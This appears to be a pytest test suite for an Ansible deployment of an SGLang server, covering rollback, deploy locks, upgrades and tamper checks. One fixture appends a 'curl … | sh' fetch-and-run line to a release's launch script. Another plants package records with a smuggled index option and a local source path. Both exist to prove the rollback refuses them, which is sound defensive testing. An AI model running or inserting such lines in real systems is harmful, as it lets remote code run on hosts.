"""Every failure after activation puts the previous good release back; rollback on demand.

Converge made release A (good). Each change to the host is a module-scoped fixture that runs
once, after the changes it builds on (its own fixtures), and returns what it saw right after:
the tests assert on that, in whatever order they run.
"""

import base64
import hashlib
import json
import os
import re
import sys

import pytest

sys.path.insert(0, os.path.join(os.environ["MOLECULE_PROJECT_DIRECTORY"], "tests"))
from support.runner import ANY_SPEED, api, describe_phases, play, restart_phases  # noqa: E402

BASE = "/opt/sglang"
# The demo's stand-in knobs (inventory/demo/group_vars): sglang_env replaces them all.
KNOBS = {"SGLANG_STANDIN_TOK_S": "55", "SGLANG_STANDIN_TTFT_MS": "250",
         "SGLANG_STANDIN_TOKENS_PER_CHUNK": "3", "SGLANG_STANDIN_KNEE": "8"}


def current(host):
    return host.file(f"{BASE}/current").linked_to.rsplit("/", 1)[1]


def manifest(host, release):
    return json.loads(host.check_output(f"cat {BASE}/releases/{release}/manifest.json"))


def releases(host):
    return host.check_output(f"ls -1 {BASE}/releases").split()


def serves(host):
    answer = json.loads(api(host.backend.get_hostname(), "/v1/completions",
                            {"prompt": "Hi", "max_tokens": 4}))
    return answer["usage"]["completion_tokens"] == 4


VENV = "/opt/ml-env"


def freeze(host):
    return host.check_output(f"{VENV}/bin/python -m pip freeze --all").splitlines()


def installed(host):
    """The ml-env's set as packages.txt records it: name==version from package metadata."""
    return sorted(host.check_output(
        f"{VENV}/bin/python -c 'import importlib.metadata as m; "
        "[print(d.metadata[\"Name\"] + \"==\" + d.version) for d in m.distributions()]'"
    ).splitlines())


def newest(host):
    return sorted(releases(host))[-1]


CASES = {
    "refuses-to-start": (
        {"SGLANG_STANDIN_REFUSE_FLAG": "enable-metrics"},
        "Wait until SGLang generates tokens", "crashes during start"),
    "slower-than-the-floor": (
        {"SGLANG_STANDIN_TOK_S": "30"},
        "Refuse a release slower than the floor or than the one it replaces",
        "is below the floor of 45"),
    "decode-graph-resolved-off": (
        {"SGLANG_STANDIN_RESOLVED": json.dumps(
            {"cuda_graph_config": {"decode": {"backend": "disabled", "max_bs": 0},
                                   "prefill": {"backend": "disabled", "max_bs": 0}}})},
        "Refuse a server that did not resolve what is required",
        "decode_cuda_graph: required by sglang_expect, but the server resolved off"),
}



@pytest.fixture(scope="module")
def release_a(host):
    """Release A, as converge left it, before anything else changes the host."""
    a = current(host)
    return {"id": a, "manifest": manifest(host, a), "serves": serves(host)}


@pytest.fixture(scope="module")
def failures(host, release_a):
    """Three releases that fail after going live, one after the other."""
    seen = {}
    for case, (env, _, _) in CASES.items():
        out = play("deploy.yml", {"sglang_env": {**KNOBS, **env}})
        seen[case] = {"out": out, "current": current(host), "serves": serves(host),
                      "failed": manifest(host, newest(host))}
    return seen


@pytest.fixture(scope="module")
def release_e_then_rollback(host, release_a, failures):
    """A good release E, a rollback to A in check mode, the env changed by hand: the rollback
    refused, then asked to build it again."""
    seen = {"deploy": play("deploy.yml", {"sglang_env": {**KNOBS, "SGLANG_STANDIN_TTFT_MS": "240"},
                                          **ANY_SPEED})}
    e = seen["e"] = current(host)
    seen["e_manifest"] = manifest(host, e)
    seen["check"] = play("playbooks/rollback.yml", {"sglang_rollback_to": release_a["id"]},
                         check=True, diff=True)
    seen["current_after_check"] = current(host)
    # A package removed by hand from the env (A and E share it: the same package set) while E
    # serves: its digest changes, so the rollback names it and switches nothing; asked to,
    # it builds A's env again from A's record (packages.txt), the removed package included.
    seen["recorded"] = host.check_output(
        f"cat {BASE}/releases/{release_a['id']}/packages.txt").splitlines()[1:]
    host.run_expect([0], f"{VENV}/bin/python -m pip uninstall -y -q pyyaml")
    seen["before"] = freeze(host)
    seen["refused"] = play("playbooks/rollback.yml", {"sglang_rollback_to": release_a["id"]})
    seen["current_after_refusal"] = current(host)
    seen["rollback"] = play("playbooks/rollback.yml", {"sglang_rollback_to": release_a["id"],
                                                       "sglang_env_rebuild": True})
    seen["after"] = freeze(host)
    seen["installed"] = installed(host)
    seen["current"], seen["serves"] = current(host), serves(host)
    seen["a_status"] = manifest(host, release_a["id"])["status"]
    seen["e_status"] = manifest(host, e)["status"]
    return seen


@pytest.fixture(scope="module")
def rerun(host, release_e_then_rollback):
    """deploy.yml again with the inventory's values: A's."""
    before = releases(host)
    out = play("deploy.yml")
    return {"out": out, "before": before, "after": releases(host), "current": current(host)}


@pytest.fixture(scope="module")
def refused_rollback(host, rerun):
    failed = [r for r in releases(host) if manifest(host, r)["status"] == "failed"]
    out = play("playbooks/rollback.yml", {"sglang_rollback_to": failed[0]})
    return {"out": out, "current": current(host)}


@pytest.fixture(scope="module")
def held_lock(host, refused_rollback):
    """Deploys while another run holds the lock, while a stale lock stays, then breaking it."""
    lock = f"{BASE}/.deploy.lock"
    seen = {}
    host.check_output(f"""echo '{{"run_id": "other", "owner": "bob@ctl (Deploy SGLang)", \
"since": '$(date +%s)'}}' > {lock}""")
    try:
        seen["held"] = play("deploy.yml", {"sglang_env": {**KNOBS, "SGLANG_STANDIN_TTFT_MS": "230"}})
        seen["current"] = current(host)
        seen["lock_kept"] = host.file(lock).contains('"run_id": "other"')
        host.check_output(f"""echo '{{"run_id": "killed", "owner": "bob@ctl", "since": 0}}' > {lock}""")
        seen["stale"] = play("deploy.yml")
        seen["broken"] = play("deploy.yml", {"sglang_lock_break_stale": True})
        seen["lock_left"] = host.file(lock).exists
    finally:
        host.run(f"rm -f {lock}")
    return seen


def serving(host):
    """(pid, release) of the unit's main process: the release its launcher started from."""
    pid = host.check_output("systemctl show -p MainPID --value sglang")
    argv = host.check_output(f"tr '\\0' ' ' < /proc/{pid}/cmdline").split()
    launcher = next((a for a in argv if a.endswith("/launch.py")), "")
    return pid, launcher.rsplit("/", 2)[-2] if launcher else None


# A run cut between two tasks leaves the lock; the run after breaks it as an operator would.
BREAK_LOCK = {"sglang_lock_break_stale": True, "sglang_lock_stale_after": 1}
SWITCH = "Point current at the release"  # release/activate.yml, release/switch_to.yml


@pytest.fixture(scope="module")
def cut_runs(host, held_lock, release_a):
    """A deploy of F cut right after it moved current (before the restart), then the same
    deploy again; a rollback by hand to A cut right after its switch, then the rollback again."""
    seen = {"before": serving(host)}
    f_env = {"sglang_env": {**KNOBS, "SGLANG_STANDIN_TTFT_MS": "235"}, **ANY_SPEED}
    seen["deploy_cut"] = play("deploy.yml", f_env, cut_after=SWITCH)
    seen["f"] = current(host)
    seen["after_deploy_cut"] = serving(host)
    seen["f_status_cut"] = manifest(host, seen["f"])["status"]
    seen["deploy_again"] = play("deploy.yml", {**f_env, **BREAK_LOCK})
    seen["after_deploy_again"] = serving(host)
    seen["f_status"] = manifest(host, seen["f"])["status"]
    seen["rollback_cut"] = play("playbooks/rollback.yml", {"sglang_rollback_to": release_a["id"]},
                                cut_after=SWITCH)
    seen["current_rollback_cut"] = current(host)
    seen["after_rollback_cut"] = serving(host)
    seen["rollback_again"] = play("playbooks/rollback.yml", BREAK_LOCK)
    seen["current"] = current(host)
    seen["after_rollback_again"] = serving(host)
    seen["statuses"] = {r: manifest(host, r)["status"] for r in (release_a["id"], seen["f"])}
    seen["serves"] = serves(host)
    return seen


@pytest.fixture(scope="module")
def kept(host, cut_runs):
    """The releases left once every run on the service is done."""
    return releases(host)


@pytest.fixture(scope="module")
def fresh_service(host, kept, release_a):
    """A second service on the same host, whose very first release refuses to start."""
    fresh = {"sglang_base_dir": "/opt/sglang-fresh", "sglang_service_name": "sglang-fresh",
             "sglang_port": 30001, "sglang_venv": "/opt/ml-env-fresh",
             "sglang_env": {**KNOBS, "SGLANG_STANDIN_REFUSE_FLAG": "enable-metrics"}}
    out = play("deploy.yml", fresh)
    return {"out": out, "fresh_running": host.service("sglang-fresh").is_running,
            "serves": serves(host), "current": current(host)}


WHEELHOUSE = "/var/cache/sglang-deploy/wheelhouse"
BUILT_AGAIN = "Build the env from the release's record"
OTHER_VERSION = "0.5.22"  # in the scenario's wheelhouse (molecule.yml: SGLANG_VERSIONS)
OFFLINE = {"sglang_pip_wheelhouse_src": "", "sglang_pip_wheelhouse": "",
           "sglang_pip_no_index": False, "sglang_pip_index_url": "http://127.0.0.1:9/simple"}


ENV_TASK = "Build the env of the pinned set, or check the one built before"  # env/build.yml


def task_results(out, prefix):
    return [e["event_data"]["res"] for e in out["events"] if e["event"] == "runner_on_ok"
            and (e["event_data"].get("task") or "").startswith(prefix)]


@pytest.fixture(scope="module")
def upgrade(host, fresh_service, release_a, tmp_path_factory):
    """playbooks/upgrade.yml plans the move of A to OTHER_VERSION (its env built beside A's),
    then the move with a candidate slower than the regression tolerance (47 tok/s against A's
    55: -15%, above the floor of 45): the deploy reuses the planned env and rolls back."""
    report = tmp_path_factory.mktemp("upgrade") / "plan.json"
    seen = {"plan": play("playbooks/upgrade.yml", {"sglang_version": OTHER_VERSION,
                                                   "sglang_upgrade_report": str(report)})}
    seen["report"] = json.loads(report.read_text()) if report.exists() else {}
    seen["candidate"] = (task_results(seen["plan"], ENV_TASK) or [{}])[0]
    seen["current_after_plan"] = current(host)
    seen["link_after_plan"] = host.file(VENV).linked_to
    seen["slower"] = play("deploy.yml", {"sglang_version": OTHER_VERSION,
                                         "sglang_env": {**KNOBS, "SGLANG_STANDIN_TOK_S": "47"}})
    seen["current"], seen["serves"] = current(host), serves(host)
    return seen


OLD_DRIVER = {  # molecule/rollback/prepare.yml: nvidia-smi answering 535, torch for CUDA 12.8
    "sglang_nvidia_smi": "/opt/fake-nvidia/driver-535/nvidia-smi",
    "sglang_pip_wheelhouse_src": "", "sglang_pip_wheelhouse": "/opt/wheelhouse-cu128",
    "sglang_pip_extra_packages": ["sglang-standin==0.2.0", "prometheus-client==0.26.0",
                                  "torch==2.9.1+cu128"]}


@pytest.fixture(scope="module")
def upgrade_old_driver(host, release_a, tmp_path_factory):
    """The plan again, its candidate's env with a torch built for CUDA 12.8, on a host whose
    driver answers 535, without nvidia-uvm or nvidia-modprobe: what the host lacks, named."""
    report = tmp_path_factory.mktemp("upgrade-old-driver") / "plan.json"
    before = current(host)
    out = play("playbooks/upgrade.yml", {"sglang_version": OTHER_VERSION, **OLD_DRIVER,
                                         "sglang_upgrade_report": str(report)})
    return {"plan": out, "report": json.loads(report.read_text()) if report.exists() else {},
            "current": (before, current(host))}


@pytest.fixture(scope="module")
def switch_offline(host, upgrade, release_a):
    """Release G on another SGLang version (so another env), then three rollbacks between A and
    G (to A, to G, to A), with the wheelhouse gone from the host and an index that does not
    answer; where each rollback's seconds went (restart_phases)."""
    seen = {"g": play("deploy.yml", {"sglang_version": OTHER_VERSION, **ANY_SPEED})}
    seen["g_id"] = current(host)
    seen["g_env"] = manifest(host, seen["g_id"]).get("env")
    host.run_expect([0], f"mv {WHEELHOUSE} {WHEELHOUSE}.away")
    seen["rollbacks"] = []
    try:
        for target in (release_a["id"], seen["g_id"], release_a["id"]):
            out = play("playbooks/rollback.yml", {"sglang_rollback_to": target, **OFFLINE})
            seen["rollbacks"].append({"target": target, "out": out, "current": current(host),
                                      "link": host.file(VENV).linked_to,
                                      "version": host.check_output(
                                          f"{VENV}/bin/python -c 'import importlib.metadata as m;"
                                          " print(m.version(\"sglang\"))'")})
            if out["status"] != "successful":
                break
    finally:
        host.run(f"mv {WHEELHOUSE}.away {WHEELHOUSE}")
    seen["serves"] = serves(host)
    return seen


def write(host, path, text):
    """A file on the host with exactly `text` (base64 on the command line: no quoting)."""
    host.run_expect([0], f"echo {base64.b64encode(text.encode()).decode()} | base64 -d > {path}")


def envs_tree(host):
    return host.check_output(f"readlink {VENV}; ls -1a {BASE}/envs; readlink {BASE}/current")


@pytest.fixture(scope="module")
def hostile_record(host, switch_offline):
    """G's env cleaned away, then its packages.txt (and the sha256 its manifest records)
    rewritten as an attacker with root would: each rollback to G must refuse the record."""
    g = switch_offline["g_id"]  # A serves
    # Only G's own env is removed: never act on a release that is not G.
    assert switch_offline["g"]["status"] == "successful" and g != current(host)
    host.run_expect([0], f"rm -rf {BASE}/envs/{switch_offline['g_env']}")
    seen = {}
    for case, lines in (("option", ["sglang==0.5.23", "--index-url=http://127.0.0.1:9/simple"]),
                        ("path", ["sglang==0.5.23", "/tmp/evil-src"]),
                        ("empty", ["# nothing"])):
        text = "".join(f"{line}\n" for line in ["# hostile", *lines])
        write(host, f"{BASE}/releases/{g}/packages.txt", text)
        data = manifest(host, g)
        data["packages_sha256"] = hashlib.sha256(text.encode()).hexdigest()
        write(host, f"{BASE}/releases/{g}/manifest.json", json.dumps(data))
        before = envs_tree(host)
        out = play("playbooks/rollback.yml", {"sglang_rollback_to": g})
        seen[case] = {"out": out, "unchanged": envs_tree(host) == before}
    return seen


def test_release_a_is_good(release_a):
    a = release_a["manifest"]
    assert a["status"] == "good"
    # No GPU here: what only SGLang and the GPUs can say is unknown, nothing fails.
    assert a["preflight"]["failures"] == [] and a["preflight"]["verdict"] == "unknown"
    assert a["verification"]["ok"]
    assert a["smoke"]["levels"][0]["decode_tok_s_per_user"] > 45
    assert release_a["serves"]


@pytest.mark.parametrize("case", CASES)
def test_a_failure_after_activation_restores_a(release_a, failures, case):
    _, step, why = CASES[case]
    seen = failures[case]
    out = seen["out"]
    assert out["status"] == "failed", case
    assert out["failed_task"] == "Fail with what happened"
    match = re.search(r"Rolled back: (\S+) \(sglang 0\.5\.23, env ([0-9a-f]{16})\) serves again, "
                      r"([0-9.]+) s after", out["msg"])
    assert match and match.group(1) == release_a["id"], out["msg"]
    # A switch: the env A was built with, never rebuilt nor reinstalled.
    assert match.group(2) == release_a["manifest"]["env"]
    print(f"\n{case}: previous release serving again {match.group(3)} s after the failure")
    assert step in out["msg"] and why in out["msg"]
    assert seen["current"] == release_a["id"]
    assert seen["serves"]
    failed = seen["failed"]
    assert failed["status"] == "failed" and step in failed["reason"]
    assert failed["preflight"]["failures"] == []  # the failure came after going live
    if case == "slower-than-the-floor":  # the evidence is kept for the post-mortem
        assert failed["smoke"]["levels"][0]["decode_tok_s_per_user"] < 45


def test_a_good_release_e_then_rollback_by_hand_to_a(release_a, release_e_then_rollback):
    seen, a = release_e_then_rollback, release_a["id"]
    assert seen["deploy"]["status"] == "successful", seen["deploy"]["msg"]
    assert seen["e"] != a and seen["e_manifest"]["status"] == "good"
    # E was measured and recorded (its 240 ms knob is in the diff below; the measured TTFT itself
    # moves with the host's load: 287 ms was seen with both cores busy).
    assert seen["e_manifest"]["smoke"]["levels"][0]["ttft_ms_p50"] > 0

    check = seen["check"]
    assert check["status"] == "successful"
    diffs = [e["event_data"]["res"]["diff"] for e in check["events"]
             if e["event"] == "runner_on_ok" and (e["event_data"].get("res") or {}).get("diff")]
    assert any('SGLANG_STANDIN_TTFT_MS="240"' in d.get("before", "") for ds in diffs
               for d in (ds if isinstance(ds, list) else [ds]))
    assert seen["current_after_check"] == seen["e"]  # check mode changed nothing

    # The changed env was named and nothing switched; asked to, the rollback built A's env
    # again from its whole recorded set, the package removed by hand included.
    refused = seen["refused"]
    assert refused["status"] == "failed" and "changed since it was built" in refused["msg"]
    assert release_a["manifest"]["env"] in refused["msg"] and "sglang_env_rebuild" in refused["msg"]
    assert seen["current_after_refusal"] == seen["e"]
    assert any(line.lower().startswith("pyyaml==") for line in seen["recorded"])
    assert seen["rollback"]["status"] == "successful", seen["rollback"]["msg"]
    print(f"\npip freeze before the rollback: {seen['before']}\npip freeze after: {seen['after']}")
    assert not any(p.lower().startswith("pyyaml==") for p in seen["before"])
    assert seen["installed"] == sorted(seen["recorded"])
    assert seen["current"] == a and seen["serves"]
    assert seen["a_status"] == "good"
    assert seen["e_status"] == "rolled-back"


@pytest.fixture(scope="module")
def edited_target(host, release_e_then_rollback, rerun):
    """E's `launch` rewritten after E was made (A serves): the rollback to E must refuse it,
    naming the file, before anything moves or restarts; E's file is put back after."""
    e, launch = release_e_then_rollback["e"], f"{BASE}/releases/{release_e_then_rollback['e']}/launch"
    original = host.check_output(f"base64 -w0 {launch}")
    pid = host.check_output("systemctl show sglang -p MainPID --value")
    host.run_expect([0], f"echo 'curl -s http://127.0.0.1:9/payload | sh' >> {launch}")
    try:
        out = play("playbooks/rollback.yml", {"sglang_rollback_to": e})
        seen = {"out": out, "current": current(host), "launch": launch,
                "pid": host.check_output("systemctl show sglang -p MainPID --value"),
                "pid_before": pid}
    finally:
        host.run_expect([0], f"echo {original} | base64 -d > {launch}")
    return seen


def test_a_target_edited_after_it_was_made_is_refused_and_nothing_restarts(release_a,
                                                                          edited_target):
    out = edited_target["out"]
    assert out["status"] == "failed"
    assert f"{edited_target['launch']} (content changed)" in out["msg"], out["msg"]
    assert "nothing was switched or restarted" in out["msg"]
    assert edited_target["current"] == release_a["id"]
    assert edited_target["pid"] == edited_target["pid_before"]


@pytest.fixture(scope="module")
def readonly_link_fs(host, release_e_then_rollback, edited_target):
    """The ml-env link asked on a read-only filesystem (a tmpfs mounted ro) while A serves: the
    rollback to E must fail there and leave current on A, nothing restarted."""
    pid = host.check_output("systemctl show sglang -p MainPID --value")
    out = play("playbooks/rollback.yml", {"sglang_rollback_to": release_e_then_rollback["e"],
                                          "sglang_venv": "/srv/readonly/ml-env"})
    return {"out": out, "current": current(host), "pid_before": pid,
            "pid": host.check_output("systemctl show sglang -p MainPID --value"),
            "link": host.file(VENV).linked_to}


def test_the_ml_env_link_on_a_read_only_filesystem_leaves_current_where_it_was(release_a,
                                                                              readonly_link_fs):
    seen = readonly_link_fs
    out = seen["out"]
    assert out["status"] == "failed"
    assert "/srv/readonly/ml-env cannot be made" in out["msg"], out["msg"]
    assert "Read-only file system" in out["msg"], out["msg"]
    assert f"current still names {release_a['id']}" in out["msg"], out["msg"]
    assert seen["current"] == release_a["id"] and seen["pid"] == seen["pid_before"]
    assert seen["link"].endswith("/envs/" + release_a["manifest"]["env"])


def test_a_deploy_cut_after_its_switch_is_started_and_proven_by_the_next_run(release_a,
                                                                             cut_runs):
    seen, f = cut_runs, cut_runs["f"]
    assert seen["deploy_cut"]["cut"] and f != release_a["id"]
    # Cut: current names F, which never started; A's process still serves.
    assert seen["after_deploy_cut"] == seen["before"] and seen["before"][1] == release_a["id"]
    assert seen["f_status_cut"] == "active"
    # The next run restarts onto F before it calls F good (it used to verify A's process and
    # mark F good).
    assert seen["deploy_again"]["status"] == "successful", seen["deploy_again"]["msg"]
    assert seen["after_deploy_again"][1] == f and seen["after_deploy_again"][0] != seen["before"][0]
    assert seen["f_status"] == "good"


def test_a_rollback_cut_after_its_switch_is_finished_by_the_next_run(release_a, cut_runs):
    seen, f = cut_runs, cut_runs["f"]
    assert seen["rollback_cut"]["cut"]
    assert seen["current_rollback_cut"] == release_a["id"] and seen["after_rollback_cut"][1] == f
    # The re-run names no target: it finishes the rollback to A (it used to roll back to F,
    # the release the cut run was leaving, still marked good).
    out = seen["rollback_again"]
    assert out["status"] == "successful", out["msg"]
    assert "was cut after its switch" in out["stdout"]
    assert seen["current"] == release_a["id"] and seen["after_rollback_again"][1] == release_a["id"]
    assert seen["statuses"] == {release_a["id"]: "good", f: "rolled-back"} and seen["serves"]


def test_a_no_change_rerun_changes_nothing(release_a, rerun):
    assert rerun["out"]["status"] == "successful"
    assert rerun["out"]["changed"] == 0
    assert rerun["after"] == rerun["before"] and rerun["current"] == release_a["id"]


def test_rollback_refuses_a_failed_release(release_a, refused_rollback):
    out = refused_rollback["out"]
    assert out["status"] == "failed" and "its status is failed" in out["msg"]
    assert refused_rollback["current"] == release_a["id"]


def test_a_second_run_is_refused_while_another_holds_the_lock(release_a, held_lock):
    out = held_lock["held"]
    assert out["status"] == "failed"
    assert "another deploy or rollback holds" in out["msg"] and "bob@ctl" in out["msg"]
    assert held_lock["current"] == release_a["id"]
    assert held_lock["lock_kept"]  # the other run's lock stays
    out = held_lock["stale"]
    assert out["status"] == "failed" and "is stale" in out["msg"]
    out = held_lock["broken"]
    assert out["status"] == "successful" and out["changed"] == 0, out["changed_tasks"]
    assert not held_lock["lock_left"]  # released at the end of the run


def test_no_good_release_was_deleted(release_a, release_e_then_rollback, cut_runs, kept):
    assert release_a["id"] in kept and release_e_then_rollback["e"] in kept
    assert cut_runs["f"] in kept
    assert len(kept) == 6  # A, three failed (the limit is 3), E, F


def test_a_host_with_no_good_release_is_left_stopped(release_a, fresh_service):
    out = fresh_service["out"]
    assert out["status"] == "failed"
    assert "has no previous good release to restore: SGLang is stopped" in out["msg"]
    assert not fresh_service["fresh_running"]
    # The other service is untouched.
    assert fresh_service["serves"] and fresh_service["current"] == release_a["id"]


def test_rollbacks_across_sglang_versions_install_nothing_and_need_no_index(release_a,
                                                                            switch_offline):
    seen = switch_offline
    assert seen["g"]["status"] == "successful", seen["g"]["msg"]
    assert seen["g_env"] and seen["g_env"] != release_a["manifest"]["env"]
    envs = {release_a["id"]: (release_a["manifest"]["env"], "0.5.23"),
            seen["g_id"]: (seen["g_env"], OTHER_VERSION)}
    assert len(seen["rollbacks"]) == 3
    for run in seen["rollbacks"]:
        out = run["out"]
        assert out["status"] == "successful", out["msg"]
        ran = {e["event_data"].get("task") or "" for e in out["events"]
               if e["event"] == "runner_on_ok"}
        assert not any(task.startswith(BUILT_AGAIN) for task in ran)
        said = [e["event_data"]["res"].get("msg", "") for e in out["events"]
                if e["event"] == "runner_on_ok"
                and e["event_data"].get("task") == "Say which env serves"]
        env, version = envs[run["target"]]
        assert said and "installed nothing" in said[0] and env in said[0], said
        assert run["current"] == run["target"] and run["version"] == version
        assert run["link"].endswith("/envs/" + env)
    assert seen["serves"]
    print(f"\nthree rollbacks between sglang 0.5.23 and {OTHER_VERSION} (another env each way), "
          "wheelhouse gone, index unreachable; seconds per phase (restart_phases):\n"
          + describe_phases([restart_phases(run["out"]) for run in seen["rollbacks"]]))


@pytest.mark.parametrize("case, words", [("option", "name==version"), ("path", "name==version"),
                                         ("empty", "no package")])
def test_a_hostile_record_is_refused_and_nothing_is_built_or_removed(hostile_record, case, words):
    seen = hostile_record[case]
    assert seen["out"]["status"] == "failed"
    # Refused where the record is read (sglang_release state=packages), before any installer.
    assert words in seen["out"]["msg"], seen["out"]["msg"]
    assert seen["unchanged"]


def test_an_upgrade_is_planned_without_touching_the_serving_release(release_a, upgrade):
    plan = upgrade["plan"]
    report = upgrade["report"]
    assert (report["from_version"], report["to_version"]) == ("0.5.23", OTHER_VERSION)
    # Fail closed: the stand-in is no SGLang that resolves, and its env has no torch, so the
    # plan cannot say ready; it says why, and the play fails.
    assert report["verdict"] == "unknown" and plan["status"] == "failed"
    unknowns = " | ".join(report["unknowns"])
    assert "the candidate SGLang did not resolve the release" in unknowns
    assert "the CUDA version the candidate's torch is built for cannot be read" in unknowns
    assert "unknown" in plan["msg"] and "did not resolve" in plan["msg"]
    assert {"name": "sglang", "from": "0.5.23", "to": OTHER_VERSION} in report["packages"]
    candidate = upgrade["candidate"]
    assert candidate.get("built") and candidate["id"] != release_a["manifest"]["env"]
    # Read-only for the serving release: current and the ml-env link are A's.
    assert upgrade["current_after_plan"] == release_a["id"]
    assert upgrade["link_after_plan"].endswith("/envs/" + release_a["manifest"]["env"])


def test_the_move_reuses_the_planned_env_and_a_slower_candidate_is_rolled_back(
        release_a, upgrade):
    out = upgrade["slower"]
    env = task_results(out, ENV_TASK)
    assert env and env[0]["id"] == upgrade["candidate"].get("id") and not env[0]["built"]
    assert out["status"] == "failed"
    assert "in the previous good release" in out["msg"] and "decode_tok_s_per_user" in out["msg"]
    assert upgrade["current"] == release_a["id"] and upgrade["serves"]


def test_an_upgrade_on_an_old_driver_names_the_driver_and_what_the_host_lacks(
        upgrade_old_driver):
    plan, report = upgrade_old_driver["plan"], upgrade_old_driver["report"]
    assert plan["status"] == "failed" and report, plan["msg"]
    # Not ready, whatever else is unknown: something on the host must change first.
    assert report["verdict"] == "changes needed", report["verdict"]
    needed = " | ".join(report["changes_needed"])
    # The candidate's torch (read in its env, after it was built) against the host's driver.
    assert "NVIDIA driver 535.104.05 is older than 570.26, which CUDA 12.8 needs" in needed
    driver = [r for r in report["prerequisites"] if r["what"].startswith("NVIDIA driver")]
    assert driver == [{"what": "NVIDIA driver for torch's CUDA 12.8", "needed": "570.26",
                       "found": "535.104.05"}], report["prerequisites"]
    # A prerequisite this host lacks (a container: no nvidia-uvm, no nvidia-modprobe).
    assert "nvidia-uvm is not loaded and nvidia-modprobe is absent" in needed
    assert "changes needed" in plan["msg"] and "535.104.05" in plan["msg"]
    before, after = upgrade_old_driver["current"]
    assert before == after  # read-only for the serving release
    print(f"\nupgrade plan on driver 535, candidate torch for CUDA 12.8: {report['verdict']}\n"
          + "\n".join(f"  needed: {line}" for line in report["changes_needed"])
          + "\n" + "\n".join(f"  prerequisite {r['what']}: needs {r['needed']}, found {r['found']}"
                              for r in report["prerequisites"]))


@pytest.fixture(scope="module")
def failed_rollback(host, upgrade_old_driver, switch_offline, release_a):
    """H, a good release, serves; a rollback by hand to A whose proof fails once A is live (an
    SLO no release meets): the host goes back to H (issue 44: rollback.yml had no rescue, and
    left the failed target serving)."""
    seen = {"h": play("deploy.yml", {"sglang_env": {**KNOBS, "UNDO_TEST": "1"}, **ANY_SPEED})}
    seen["before"] = serving(host)
    target = release_a["id"]
    seen["out"] = play("playbooks/rollback.yml", {
        "sglang_rollback_to": target, "sglang_workload_slo": {"min_tok_s_per_user": 100000}})
    seen.update(target=target, current=current(host), after=serving(host), serves=serves(host),
                statuses={r: manifest(host, r)["status"] for r in (target, seen["before"][1])})
    return seen


def test_a_rollback_whose_target_fails_goes_back_to_the_release_that_served(failed_rollback):
    seen, target = failed_rollback, failed_rollback["target"]
    assert seen["h"]["status"] == "successful", seen["h"]["msg"]
    back = seen["before"][1]
    assert back != target and seen["out"]["status"] == "failed"
    assert f"The rollback to {target} failed at" in seen["out"]["msg"], seen["out"]["msg"]
    assert "no proven capacity" in seen["out"]["msg"] and f"{back}, which served" in seen["out"]["msg"]
    assert seen["current"] == back and seen["after"][1] == back and seen["after"][0] != seen["before"][0]
    assert seen["statuses"] == {target: "failed", back: "good"} and seen["serves"]
